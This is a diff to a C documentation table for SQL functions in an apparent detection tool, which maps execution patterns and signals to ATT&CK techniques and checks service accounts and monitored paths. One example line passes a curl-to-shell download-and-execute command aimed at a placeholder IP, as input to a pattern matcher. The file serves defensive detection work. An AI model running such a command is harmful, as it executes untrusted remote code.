@@ -537,6 +537,10 @@ const struct function_doc function_docs[] = {
     {"pattern_signals(platform, text)",
      "The signals whose exec_patterns, of unix or windows, match a text, as a JSON array",
      "SELECT pattern_signals('unix', '/bin/sh -c \"curl http://192.0.2.1/x | sh\"');"},
+    {"listed(list, text, platform)",
+     "Whether a pattern of service_accounts, or of monitored_paths for a platform, fits a text",
+     "SELECT listed('service_accounts', 'www-data'), listed('monitored_paths', '/etc/rc.local', "
+     "'linux');"},
     {"attack_id(technique, version)",
      "A technique of ATT&CK v19.1 by its id in another version; without one in that of the setting "
      "attack_version",
@@ -553,6 +557,9 @@ const struct function_doc function_docs[] = {
     {"signal_techniques(fired)",
      "The ATT&CK techniques of a JSON array of signals, as a JSON array",
      "SELECT signal_techniques('[\"runs_from_temp\",\"inline_shell\"]');"},
+    {"finding_techniques(fired, techniques)",
+     "Techniques that are separated by commas, and those of a JSON array of signals, each once",
+     "SELECT finding_techniques('[\"runs_from_temp\",\"inline_shell\"]', 'T1543.002');"},
     {"text_lines(text)",
      "The lines of a text as a JSON array",
      "SELECT value FROM json_each(text_lines('a' || char(10) || 'b'));"},
